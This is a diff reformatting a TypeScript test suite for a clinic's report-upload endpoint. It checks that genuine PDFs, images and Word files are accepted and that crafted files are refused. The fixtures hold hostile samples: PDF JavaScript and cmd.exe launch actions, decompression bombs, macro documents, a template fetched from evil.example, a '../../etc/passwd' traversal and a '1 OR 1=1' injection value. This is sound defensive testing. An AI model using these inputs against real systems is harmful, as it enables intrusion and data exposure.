@@ -21,22 +21,41 @@ afterAll(() => app.close());
 
 const newBooking = async () => (await aBooking(app.db, { kind: 'test', accountId: (await aPerson(app.db)).id })).id;
 
-async function upload(filename: string, content: Buffer, fields: Record<string, unknown> = {}, options: { path?: string; field?: string; first?: boolean } = {}) {
-  const { payload, headers } = multipart({ name: options.field ?? 'file', filename, content }, { bookingId: fields['bookingId'] ?? (await newBooking()) }, options.first);
+async function upload(
+  filename: string,
+  content: Buffer,
+  fields: Record<string, unknown> = {},
+  options: { path?: string; field?: string; first?: boolean } = {},
+) {
+  const { payload, headers } = multipart(
+    { name: options.field ?? 'file', filename, content },
+    { bookingId: fields['bookingId'] ?? (await newBooking()) },
+    options.first,
+  );
   return staff.call('POST', options.path ?? '/reports/upload', payload, headers);
 }
 
 /** Every file in the store, whole or on its way. */
-const storedFiles = async () => (await readdir(app.filesFolder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
+const storedFiles = async () =>
+  (await readdir(app.filesFolder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
 
 describe('a file that is what it says', () => {
   it.each([
-    ['report.pdf', aPdf], ['REPORT.PDF', aPdf], ['scan.png', aPng()], ['চিঠি.docx', aDocx()],
+    ['report.pdf', aPdf],
+    ['REPORT.PDF', aPdf],
+    ['scan.png', aPng()],
+    ['চিঠি.docx', aDocx()],
   ])('%s is taken in, kept under another name, and waits for the pathologist', async (name, content) => {
     const before = await storedFiles();
     const { status, body } = await upload(name, content);
     expect(status).toBe(201);
-    expect(body).toMatchObject({ status: 'UPLOADED', kind: 'file', file: { name }, uploadedBy: staff.account.name, version: 1 });
+    expect(body).toMatchObject({
+      status: 'UPLOADED',
+      kind: 'file',
+      file: { name },
+      uploadedBy: staff.account.name,
+      version: 1,
+    });
     const fresh = (await storedFiles()).filter(({ name: key }) => !before.some((old) => old.name === key));
     expect(fresh).toHaveLength(1);
     expect(fresh[0]!.name).toMatch(/^[0-9a-f]{32}$/);
@@ -52,7 +71,12 @@ describe('a file that is what it says', () => {
     const { id } = body as Answer<'uploadReport'>;
     const answer = await staff.call('GET', `/api/v1/download-report/${id}`);
     expect(answer.status).toBe(200);
-    expect(answer.headers).toMatchObject({ 'content-type': 'image/png', 'content-disposition': 'attachment; filename="report.png"', 'x-content-type-options': 'nosniff', 'cache-control': 'no-store' });
+    expect(answer.headers).toMatchObject({
+      'content-type': 'image/png',
+      'content-disposition': 'attachment; filename="report.png"',
+      'x-content-type-options': 'nosniff',
+      'cache-control': 'no-store',
+    });
     expect(String(answer.body)).not.toContain('script');
   });
 
@@ -61,18 +85,32 @@ describe('a file that is what it says', () => {
     const { body } = await upload('report.pdf', aPdf, { bookingId });
     const { id } = body as Answer<'uploadReport'>;
     expect((await staff.call('GET', `/user/booking/test/${bookingId}`)).body).toMatchObject({
-      checkupReportStatus: 'UPLOADED', checkupReportUrl: `/api/v1/download-report/${id}`, checkupReportUploadedBy: staff.account.name, version: 2,
+      checkupReportStatus: 'UPLOADED',
+      checkupReportUrl: `/api/v1/download-report/${id}`,
+      checkupReportUploadedBy: staff.account.name,
+      version: 2,
     });
-    const { changes } = (await staff.call('GET', `/api/v1/bookings/${bookingId}/history`)).body as Answer<'readBookingHistory'>;
-    expect(changes).toContainEqual(expect.objectContaining({ field: 'checkupReportStatus', from: null, to: 'UPLOADED' }));
+    const { changes } = (await staff.call('GET', `/api/v1/bookings/${bookingId}/history`))
+      .body as Answer<'readBookingHistory'>;
+    expect(changes).toContainEqual(
+      expect.objectContaining({ field: 'checkupReportStatus', from: null, to: 'UPLOADED' }),
+    );
   });
 });
 
 const javascript = '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
 /** Objects that stand compressed within an object stream. */
-function objectStream(content: string | Buffer, dictionary = '/Filter /FlateDecode', pack: (text: Buffer) => Buffer = deflateSync): Buffer {
+function objectStream(
+  content: string | Buffer,
+  dictionary = '/Filter /FlateDecode',
+  pack: (text: Buffer) => Buffer = deflateSync,
+): Buffer {
   const packed = pack(Buffer.from(content));
-  return Buffer.concat([Buffer.from(`5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n`), packed, Buffer.from('\nendstream\nendobj\n')]);
+  return Buffer.concat([
+    Buffer.from(`5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n`),
+    packed,
+    Buffer.from('\nendstream\nendobj\n'),
+  ]);
 }
 
 const html = Buffer.from('<!doctype html><script>alert(1)</script>');
@@ -85,29 +123,86 @@ const hostile: [string, string, Buffer, string?][] = [
   ['a PDF called a picture', 'x.png', aPdf],
   ['a page of HTML with a PDF behind it', 'x.pdf', Buffer.concat([html, aPdf])],
   ['a PDF with HTML in its head', 'x.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n'), aPdf])],
-  ['a PDF that is a zip as well', 'x.pdf', Buffer.concat([aPdf, aZip([{ name: 'a.txt', content: 'x' }]), Buffer.from('\n%%EOF\n')])],
+  [
+    'a PDF that is a zip as well',
+    'x.pdf',
+    Buffer.concat([aPdf, aZip([{ name: 'a.txt', content: 'x' }]), Buffer.from('\n%%EOF\n')]),
+  ],
   ['a picture that begins well and ends nowhere', 'x.png', aPng().subarray(0, 200)],
   ['a picture of more than 25 megapixels', 'x.png', aPng(6000, 5000)],
   ['a PDF without an end', 'x.pdf', aPdf.subarray(0, -10)],
   ['a PDF with a script', 'x.pdf', aPdfWith(javascript)],
-  ['a PDF with a script whose name is escaped', 'x.pdf', aPdfWith(javascript.replace('JavaScript', 'J#61v#61Scri#70t'))],
+  [
+    'a PDF with a script whose name is escaped',
+    'x.pdf',
+    aPdfWith(javascript.replace('JavaScript', 'J#61v#61Scri#70t')),
+  ],
   ['a PDF that starts a program', 'x.pdf', aPdfWith('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')],
-  ['a PDF with a file attached', 'x.pdf', aPdfWith('4 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj\n')],
-  ['a PDF with a script in compressed objects', 'x.pdf', aPdfWith(objectStream('9 0 << /S /JavaScript /JS (app.alert(1)) >>'))],
-  ['a PDF with a short script name in compressed objects', 'x.pdf', aPdfWith(objectStream('9 0 << /S 8 0 R /J#53 (app.alert(1)) >>'))],
+  [
+    'a PDF with a file attached',
+    'x.pdf',
+    aPdfWith('4 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj\n'),
+  ],
+  [
+    'a PDF with a script in compressed objects',
+    'x.pdf',
+    aPdfWith(objectStream('9 0 << /S /JavaScript /JS (app.alert(1)) >>')),
+  ],
+  [
+    'a PDF with a short script name in compressed objects',
+    'x.pdf',
+    aPdfWith(objectStream('9 0 << /S 8 0 R /J#53 (app.alert(1)) >>')),
+  ],
   ['a PDF whose compressed objects are a bomb', 'x.pdf', aPdfWith(objectStream(Buffer.alloc(60 * 1024 * 1024, 0x20)))],
-  ['a PDF whose objects are packed in a way nobody uses', 'x.pdf', aPdfWith(objectStream('9 0 << /JS (x) >>', '/Filter [/ASCIIHexDecode /FlateDecode]', (text) => Buffer.from(deflateSync(text).toString('hex'))))],
-  ['a PDF whose objects are packed over a predictor', 'x.pdf', aPdfWith(objectStream('9 0 << >>', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'))],
-  ['a PDF whose objects are no such stream', 'x.pdf', aPdfWith(objectStream('9 0 << >>', '/Filter /FlateDecode', (text) => text))],
-  ['a PDF that hides its streams\' type elsewhere', 'x.pdf', aPdfWith('5 0 obj\n/ObjStm\nendobj\n', '6 0 obj\n<< /Length 1 >>\nstream\nx\nendstream\nendobj\n')],
+  [
+    'a PDF whose objects are packed in a way nobody uses',
+    'x.pdf',
+    aPdfWith(
+      objectStream('9 0 << /JS (x) >>', '/Filter [/ASCIIHexDecode /FlateDecode]', (text) =>
+        Buffer.from(deflateSync(text).toString('hex')),
+      ),
+    ),
+  ],
+  [
+    'a PDF whose objects are packed over a predictor',
+    'x.pdf',
+    aPdfWith(objectStream('9 0 << >>', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
+  ],
+  [
+    'a PDF whose objects are no such stream',
+    'x.pdf',
+    aPdfWith(objectStream('9 0 << >>', '/Filter /FlateDecode', (text) => text)),
+  ],
+  [
+    "a PDF that hides its streams' type elsewhere",
+    'x.pdf',
+    aPdfWith('5 0 obj\n/ObjStm\nendobj\n', '6 0 obj\n<< /Length 1 >>\nstream\nx\nendstream\nendobj\n'),
+  ],
   ['a locked PDF', 'x.pdf', aPdfWith('4 0 obj\n<< >>\nendobj\ntrailer\n<< /Encrypt 4 0 R >>\n')],
   ['a docx with macros', 'x.docx', aDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
   ['a docx that says it holds macros', 'x.docx', aDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
-  ['a docx with another program\'s object', 'x.docx', aDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
-  ['a docx that fetches a template', 'x.docx', aDocx([{ name: 'word/_rels/settings.xml.rels', content: '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm"/>' }])],
+  ["a docx with another program's object", 'x.docx', aDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
+  [
+    'a docx that fetches a template',
+    'x.docx',
+    aDocx([
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content: '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm"/>',
+      },
+    ]),
+  ],
   ['a docx with a path that climbs', 'x.docx', aDocx([{ name: '../../etc/passwd', content: 'x' }])],
-  ['a docx of too many parts', 'x.docx', aDocx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/p${i}.xml`, content: '' })))],
-  ['a docx that unpacks to 120 MB', 'x.docx', aDocx([{ name: 'word/big.xml', content: Buffer.alloc(120 * 1024 * 1024) }])],
+  [
+    'a docx of too many parts',
+    'x.docx',
+    aDocx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/p${i}.xml`, content: '' }))),
+  ],
+  [
+    'a docx that unpacks to 120 MB',
+    'x.docx',
+    aDocx([{ name: 'word/big.xml', content: Buffer.alloc(120 * 1024 * 1024) }]),
+  ],
   ['a zip called docx', 'x.docx', aZip([{ name: 'a.txt', content: 'x' }])],
   ['a docx cut off', 'x.docx', aDocx().subarray(0, -30)],
   ['an old document with macros', 'x.doc', oldDocument('WordDocument', 'Macros', '_VBA_PROJECT')],
@@ -140,7 +235,8 @@ describe('a file that is not', () => {
   });
 
   it('one byte more than 20 MB is refused, 20 MB are not', async () => {
-    const filler = (size: number) => aPdfWith(`4 0 obj\n<< /Length ${size} >>\nstream\n`, Buffer.alloc(size, 0x41), '\nendstream\nendobj\n');
+    const filler = (size: number) =>
+      aPdfWith(`4 0 obj\n<< /Length ${size} >>\nstream\n`, Buffer.alloc(size, 0x41), '\nendstream\nendobj\n');
     const rest = filler(10_000_000).length - 10_000_000;
     const files = await storedFiles();
     expectError(await upload('x.pdf', filler(limits.reportBytes - rest + 1)), 'TOO_LARGE');
@@ -157,15 +253,36 @@ describe('a form that is not one', () => {
     ['with another boundary', payload, { 'content-type': 'multipart/form-data; boundary=other' }],
     ['without a boundary', payload, { 'content-type': 'multipart/form-data' }],
     ['of nothing', Buffer.alloc(0), headers],
-    ['with a field called __proto__', multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { __proto__x: 1, ['__proto__']: 1 }).payload, headers],
-    ['with two files', Buffer.concat([payload.subarray(0, payload.indexOf('------clinic-test-boundary--')), payload]), headers],
+    [
+      'with a field called __proto__',
+      multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { __proto__x: 1, ['__proto__']: 1 }).payload,
+      headers,
+    ],
+    [
+      'with two files',
+      Buffer.concat([payload.subarray(0, payload.indexOf('------clinic-test-boundary--')), payload]),
+      headers,
+    ],
     ['without a file', multipart(null, { bookingId: 1 }).payload, headers],
-    ['with the file under another name', multipart({ name: 'picture', filename: 'x.pdf', content: aPdf }, { bookingId: 1 }).payload, headers],
+    [
+      'with the file under another name',
+      multipart({ name: 'picture', filename: 'x.pdf', content: aPdf }, { bookingId: 1 }).payload,
+      headers,
+    ],
     ['without a booking', multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, {}).payload, headers],
-    ['with nonsense for a booking', multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { bookingId: '1 OR 1=1' }).payload, headers],
+    [
+      'with nonsense for a booking',
+      multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { bookingId: '1 OR 1=1' }).payload,
+      headers,
+    ],
   ])('%s is refused and leaves nothing', async (_, body, type) => {
     const [rows, files] = [await countAllRows(app.db), await storedFiles()];
-    expectError(await staff.call('POST', '/reports/upload', body, type), 'BAD_REQUEST', 'INVALID_FIELDS', 'UNSUPPORTED_MEDIA');
+    expectError(
+      await staff.call('POST', '/reports/upload', body, type),
+      'BAD_REQUEST',
+      'INVALID_FIELDS',
+      'UNSUPPORTED_MEDIA',
+    );
     expect(await countAllRows(app.db)).toEqual(rows);
     expect(await storedFiles()).toEqual(files);
   });
@@ -178,7 +295,12 @@ describe('a form that is not one', () => {
   it('a booking that is missing, cancelled or signed already is refused, and the file goes', async () => {
     const files = await storedFiles();
     expectError(await upload('x.pdf', aPdf, { bookingId: 2_000_000_000 }), 'NOT_FOUND');
-    const { id } = await aBooking(app.db, { kind: 'test', accountId: (await aPerson(app.db)).id, checkupStatus: 'CANCELLED', appointmentStatus: 'CANCELLED' });
+    const { id } = await aBooking(app.db, {
+      kind: 'test',
+      accountId: (await aPerson(app.db)).id,
+      checkupStatus: 'CANCELLED',
+      appointmentStatus: 'CANCELLED',
+    });
     expectError(await upload('x.pdf', aPdf, { bookingId: id }), 'BOOKING_CANCELLED');
     expect(await storedFiles()).toEqual(files);
   });
